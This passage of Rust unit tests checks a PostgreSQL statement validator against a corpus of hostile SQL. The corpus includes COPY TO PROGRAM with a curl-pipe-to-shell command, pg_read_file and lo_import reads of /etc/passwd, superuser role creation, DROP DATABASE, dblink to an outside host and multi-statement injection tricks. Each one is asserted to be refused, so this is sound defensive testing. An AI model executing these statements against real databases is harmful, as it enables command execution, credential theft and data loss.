            ("SELECT nextval('public.tags_id_seq')", "nextval"),
            (r#"INSERT INTO public."SequelizeMeta" (name) VALUES ('a')"#, "INSERT"),
            ("CREATE TABLE public.x (a int)", "CREATE TABLE"),
            ("SAVEPOINT enforce_key", "SAVEPOINT"),
            ("SELECT * FROM public.users FOR UPDATE", "FOR UPDATE"),
            ("WITH d AS (DELETE FROM public.users RETURNING *) SELECT * FROM d", "data-modifying"),
            ("SELECT pg_read_file('/etc/passwd')", "pg_read_file"),
        ] {
            let e = check_read_only_query(sql).expect_err(sql);
            assert!(e.contains(reason), "{sql}: expected {reason:?} in {e:?}");
        }
    }

    /// Hostile statements and a word the refusal must contain.
    const HOSTILE: &[(&str, &str)] = &[
        ("CREATE TABLE a(x int); DROP DATABASE x", "2 statements in one string"),
        ("SELECT 1; SELECT 2", "2 statements"),
        ("SAVEPOINT a; ROLLBACK", "2 statements"),
        ("COPY public.users TO PROGRAM 'id'", "COPY"),
        ("COPY (SELECT 1) TO PROGRAM 'curl http://x | sh'", "COPY"),
        ("COPY public.users FROM PROGRAM 'cat /etc/passwd'", "COPY"),
        ("COPY public.users TO '/tmp/users.csv'", "COPY"),
        ("COPY public.users FROM '/etc/passwd'", "COPY"),
        ("COPY public.users FROM STDIN", "COPY"),
        ("ALTER SYSTEM SET archive_command = 'id'", "ALTER SYSTEM"),
        ("ALTER SYSTEM RESET ALL", "ALTER SYSTEM"),
        ("CREATE EXTENSION dblink", "CREATE EXTENSION"),
        ("CREATE EXTENSION IF NOT EXISTS plpython3u", "CREATE EXTENSION"),
        ("DROP DATABASE postgres", "DROP DATABASE"),
        ("DROP DATABASE IF EXISTS server_db", "DROP DATABASE"),
        ("DROP SCHEMA public CASCADE", "DROP SCHEMA"),
        ("DROP ROLE postgres", "DROP ROLE"),
        ("DROP EXTENSION plpgsql", "DROP EXTENSION"),
        ("DROP FUNCTION f()", "DROP FUNCTION"),
        ("CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'x'", "CREATE ROLE"),
        ("CREATE USER evil WITH SUPERUSER", "CREATE USER"),
        ("ALTER ROLE postgres PASSWORD 'x'", "ALTER ROLE"),
        ("ALTER USER postgres WITH PASSWORD 'x'", "ALTER USER"),
        ("SET ROLE postgres", "SET ROLE"),
        ("SET SESSION AUTHORIZATION postgres", "SET SESSION AUTHORIZATION"),
        ("SET search_path = pg_temp, public", "SET"),
        ("SET LOCAL statement_timeout = 0", "SET"),
        ("RESET ROLE", "RESET"),
        ("RESET ALL", "RESET"),
        ("GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC", "GRANT"),
        ("GRANT pg_read_server_files TO current_user", "GRANT"),
        ("REVOKE ALL ON public.users FROM PUBLIC", "REVOKE"),
        ("CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql", "CREATE FUNCTION"),
        (
            "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $f$ BEGIN RETURN 1; END $f$",
            "CREATE OR REPLACE FUNCTION",
        ),
        ("CREATE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$", "CREATE PROCEDURE"),
        ("CREATE TRIGGER t BEFORE INSERT ON public.users FOR EACH ROW EXECUTE FUNCTION f()", "CREATE TRIGGER"),
        ("CREATE RULE r AS ON INSERT TO public.users DO INSTEAD NOTHING", "CREATE RULE"),
        ("CREATE VIEW public.v AS SELECT 1", "CREATE VIEW"),
        ("CREATE SCHEMA evil", "CREATE SCHEMA"),
        ("DO $$ BEGIN PERFORM pg_sleep(10); END $$", "DO"),
        ("CALL p()", "CALL"),
        ("LISTEN x", "LISTEN"),
        ("NOTIFY x, 'y'", "NOTIFY"),
        ("UNLISTEN *", "UNLISTEN"),
        ("VACUUM FULL", "VACUUM"),
        ("ANALYZE public.users", "ANALYZE"),
        ("TRUNCATE public.users", "TRUNCATE"),
        ("TRUNCATE \"SequelizeMeta\"", "TRUNCATE"),
        ("DELETE FROM public.users", "DELETE"),
        ("UPDATE public.users SET role = 'owner'", "UPDATE"),
        ("INSERT INTO public.users (did) VALUES ('x')", "INSERT INTO public.users"),
        ("INSERT INTO pg_catalog.pg_authid (rolname) VALUES ('x')", "INSERT"),
        (r#"INSERT INTO public."SequelizeMeta" (name) SELECT pg_read_file('/etc/passwd')"#, "VALUES"),
        (r#"INSERT INTO public."SequelizeMeta" (name) VALUES (pg_read_file('/etc/passwd'))"#, "string literals"),
        (r#"INSERT INTO public."SequelizeMeta" (name) VALUES ('a') ON CONFLICT DO NOTHING"#, "INSERT"),
        (r#"INSERT INTO public."SequelizeMeta" (name) VALUES ('a') RETURNING *"#, "INSERT"),
        ("SELECT * INTO public.stolen FROM public.users", "SELECT … INTO"),
        ("SELECT pg_read_file('/etc/passwd')", "pg_read_file"),
        ("SELECT pg_read_binary_file('/etc/passwd')", "pg_read_binary_file"),
        ("SELECT * FROM pg_ls_dir('/')", "pg_ls_dir"),
        ("SELECT pg_stat_file('/etc/passwd')", "pg_stat_file"),
        ("SELECT lo_import('/etc/passwd')", "lo_import"),
        ("SELECT lo_export(16385, '/tmp/x')", "lo_export"),
        ("SELECT lo_from_bytea(0, 'x')", "lo_from_bytea"),
        ("SELECT dblink_exec('host=evil', 'x')", "dblink_exec"),
        ("SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", "dblink"),
        ("SELECT pg_sleep(3600)", "pg_sleep"),
        ("SELECT set_config('role', 'postgres', false)", "set_config"),
        ("SELECT pg_terminate_backend(1)", "pg_terminate_backend"),
        ("SELECT pg_cancel_backend(1)", "pg_cancel_backend"),
        ("SELECT pg_reload_conf()", "pg_reload_conf"),
        ("SELECT pg_rotate_logfile()", "pg_rotate_logfile"),
        ("SELECT current_setting('data_directory')", "current_setting"),
        ("SELECT query_to_xml('select * from pg_authid', true, true, '')", "query_to_xml"),
        ("SELECT pg_catalog.max(1)", "schema-qualified"),
        ("SELECT pg_catalog.pg_read_file('/etc/passwd')", "schema-qualified"),
        ("SELECT \"pg_read_file\"('/etc/passwd')", "pg_read_file"),
        ("SELECT PG_READ_FILE('/etc/passwd')", "PG_READ_FILE"),
        ("SELECT max(id) FROM public.users WHERE pg_sleep(1) IS NULL", "pg_sleep"),
        ("SELECT count(*) FROM (SELECT pg_read_file('/etc/passwd')) s", "pg_read_file"),
        ("SELECT coalesce((SELECT pg_ls_dir('.') LIMIT 1), '')", "pg_ls_dir"),
        ("SELECT * FROM pg_catalog.pg_authid", "schema public"),
        ("SELECT * FROM pg_shadow", "pg_"),
        ("SELECT * FROM information_schema.tables", "schema public"),
        ("SELECT * FROM generate_series(1, 10)", "table function"),
        ("SELECT setval('pg_catalog.x', 1)", "setval"),
        ("SELECT setval(current_setting('x'), 1)", "setval"),
        ("SELECT setval((SELECT 'public.x'), 1)", "setval"),
        ("CREATE TABLE public.t (a text DEFAULT pg_read_file('/etc/passwd'))", "pg_read_file"),
        ("CREATE TABLE public.t AS SELECT * FROM public.users", "CREATE TABLE … AS"),
        ("CREATE TABLE pg_catalog.t (a int)", "schema public"),
        ("CREATE INDEX i ON public.t USING btree (lower(pg_read_file('/x')))", "pg_read_file"),
        ("CREATE INDEX i ON public.t USING bloom (a)", "USING"),
        ("CREATE TYPE public.t AS (a int)", "enum"),
        ("CREATE TYPE public.r AS RANGE (subtype = int4)", "enum"),
        ("ALTER TABLE public.users OWNER TO evil", "ALTER TABLE"),
        ("ALTER TABLE public.users ENABLE ROW LEVEL SECURITY", "ALTER TABLE"),
        ("ALTER TABLE public.users ADD CONSTRAINT c CHECK (pg_sleep(1) IS NULL)", "ADD CONSTRAINT"),
        ("ALTER TABLE public.users ALTER COLUMN did SET DEFAULT pg_read_file('/etc/passwd')", "pg_read_file"),
        ("ALTER TABLE ONLY public.t ALTER COLUMN id SET DEFAULT nextval('pg_catalog.x'::regclass)", "nextval"),
        ("ALTER SEQUENCE public.s RESTART WITH 1", "ALTER SEQUENCE"),
        ("ALTER SEQUENCE public.s OWNED BY public.t.id; DROP DATABASE x", "2 statements"),
        ("ALTER SEQUENCE pg_catalog.s OWNED BY public.t.id", "schema public"),
        ("ALTER DATABASE server_db SET search_path = evil", "ALTER DATABASE"),
        ("COMMENT ON DATABASE postgres IS 'x'", "COMMENT ON DATABASE"),
        ("COMMENT ON FUNCTION f() IS 'x'", "COMMENT ON"),
        ("ROLLBACK", "ROLLBACK"),
        ("COMMIT", "COMMIT"),
        ("BEGIN", "BEGIN"),
        ("PREPARE TRANSACTION 'x'", "PREPARE"),
        ("PREPARE p AS SELECT 1", "PREPARE"),
        ("EXECUTE p", "EXECUTE"),
        ("LOAD 'plpgsql'", "LOAD"),
        ("LOCK TABLE public.users", "LOCK"),
        ("CHECKPOINT", "CHECKPOINT"),
        ("DISCARD ALL", "DISCARD"),
        ("EXPLAIN ANALYZE SELECT pg_sleep(1)", "EXPLAIN"),
        ("SECURITY LABEL ON TABLE public.users IS 'x'", "SECURITY LABEL"),
        ("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", "CREATE SERVER"),
        ("IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public", "IMPORT"),
        ("REFRESH MATERIALIZED VIEW v", "REFRESH"),
        ("CLUSTER public.users", "CLUSTER"),
        ("REINDEX DATABASE postgres", "REINDEX"),
        (
            "WITH x AS (INSERT INTO public.\"SequelizeMeta\" (name) VALUES ('a') RETURNING *) SELECT * FROM x",
            "data-modifying",
        ),
        ("WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT count(*) FROM c", "WITH RECURSIVE"),
        (
            "SELECT (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT max(x) FROM c)",
            "WITH RECURSIVE",
        ),
        ("", "empty"),
        ("   -- only a comment\n", "empty"),
        ("SELECT 'unterminated", "unterminated"),
        ("SELECT 1 /* unterminated", "unterminated"),
        ("CREATE TABLE public.t (a int)\0; DROP DATABASE x", "control character"),
        ("this is not sql", "refused THIS"),
        ("SELECT FROM WHERE", "SELECT statement that does not parse"),
        ("CREATE TABLE (", "CREATE TABLE statement that does not parse"),
    ];

    #[test]
    fn refuses_the_hostile_corpus_with_the_right_reason() {
        assert!(HOSTILE.len() >= 20);
        let mut wrong = Vec::new();
        for (sql, reason) in HOSTILE {
            match check_target_statement(sql) {
                Ok(()) => wrong.push(format!("ACCEPTED: {sql}")),
                Err(e) if !e.contains(reason) => wrong.push(format!("{sql}\n   expected {reason:?} in: {e}")),
                Err(e) => assert!(e.starts_with("refused"), "{e}"),
            }
        }
        assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
    }

    #[test]
    fn every_hostile_statement_is_also_refused_as_a_query() {
        for (sql, _) in HOSTILE {
            assert!(check_read_only_query(sql).is_err(), "{sql}");
        }
    }

    /// Text where sqlparser and PostgreSQL could disagree about where a statement ends.
    #[test]
    fn refuses_statements_smuggled_through_lexer_differences() {
        for sql in [
            // Backslash is literal in a standard string: PostgreSQL ends the string at \'.
            r"SELECT 'a\'; DROP TABLE public.users; --'",
            // With standard_conforming_strings off it would be the reverse.
            r"SELECT E'a\''; DROP TABLE public.users; --'",
            r"SELECT $a$ $a$; DROP TABLE public.users",
            r#"SELECT 1 AS "x"";"; DROP TABLE public.users"#,
            "SELECT 1 -- comment\n; DROP TABLE public.users",
            "SELECT 1 /* a */; DROP TABLE public.users",
        ] {
            let e = check_target_statement(sql).expect_err(sql);
            assert!(e.contains("statements in one string"), "{sql}: {e}");
        }
        // One statement in PostgreSQL's eyes, whatever is inside quotes and nested comments.
        for sql in [
            "SELECT 'a;b'",
            "SELECT 'it''s; fine'",
            r"SELECT E'a\';b'",
            "SELECT $$ ; $$",
            "SELECT $tag$ ; $x$ ; $tag$",
            r#"SELECT 1 AS "a;b""#,
            "SELECT 1 /* nested /* ; */ still ; comment */",
            "SELECT 1 -- ; trailing comment",
            "SELECT 1;",
            "SELECT 1;  \n -- done\n",
        ] {
            assert_eq!(pg_lexer_statements(sql, true), Ok(1), "{sql}");
        }
        // A nested comment PostgreSQL keeps open: what follows is comment, not a statement.
        assert_eq!(pg_lexer_statements("SELECT 1 /* /* */ ; DROP TABLE public.users; */", true), Ok(1));
        if let Err(e) = check_target_statement("SELECT 1 /* /* */ ; DROP TABLE public.users; */") {
            assert!(!e.contains("statements in one string"), "{e}");
        }
    }

    #[test]
    fn refuses_oversized_and_deeply_nested_statements() {
        let big =
            format!(r#"INSERT INTO public."SequelizeMeta" (name) VALUES ('{}')"#, "x".repeat(MAX_STATEMENT_BYTES));
        assert!(check_target_statement(&big).unwrap_err().contains("limit"));
        let deep = format!("SELECT {}1{}", "(".repeat(10_000), ")".repeat(10_000));
        assert!(check_target_statement(&deep).is_err());
        let deep_sub = format!("SELECT {}1{}", "(SELECT ".repeat(2_000), ")".repeat(2_000));
        assert!(check_target_statement(&deep_sub).is_err());
    }

    #[test]
    fn alter_sequence_owned_by_forms() {
        for ok in [
            "ALTER SEQUENCE public.tags_id_seq OWNED BY public.tags.id;",
            "ALTER SEQUENCE public.\"x_id_seq\" OWNED BY public.\"x\".\"id\"",
            "alter sequence tags_id_seq owned by tags.id",
            "ALTER SEQUENCE public.tags_id_seq /* c */ OWNED BY public.tags.id -- c",
        ] {
            check_target_statement(ok).unwrap_or_else(|e| panic!("{ok}: {e}"));
        }
        for bad in [
            "ALTER SEQUENCE public.s OWNED BY NONE x",
            "ALTER SEQUENCE public.s OWNED BY public.t.id CASCADE",
            "ALTER SEQUENCE public.s OWNER TO evil",
            "ALTER SEQUENCE public.s OWNED BY col",
            "ALTER SEQUENCE public.s OWNED BY pg_catalog.pg_authid.oid",
            "ALTER SEQUENCE public.s OWNED BY public.t.id;;",
        ] {
            assert!(check_target_statement(bad).is_err(), "{bad}");
            assert!(check_read_only_query(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn statement_kinds_for_messages() {
        assert_eq!(statement_kind("copy x to program 'id'"), "COPY");
        assert_eq!(statement_kind("  ALTER SYSTEM SET x = 1"), "ALTER SYSTEM");
        assert_eq!(statement_kind("/* x */ CREATE OR REPLACE FUNCTION f()"), "CREATE OR REPLACE FUNCTION");
        assert_eq!(statement_kind("SET SESSION AUTHORIZATION x"), "SET SESSION AUTHORIZATION");
        assert_eq!(statement_kind("CREATE UNIQUE INDEX x ON y (z)"), "CREATE UNIQUE INDEX");
        assert_eq!(statement_kind(""), "an empty statement");
    }
}
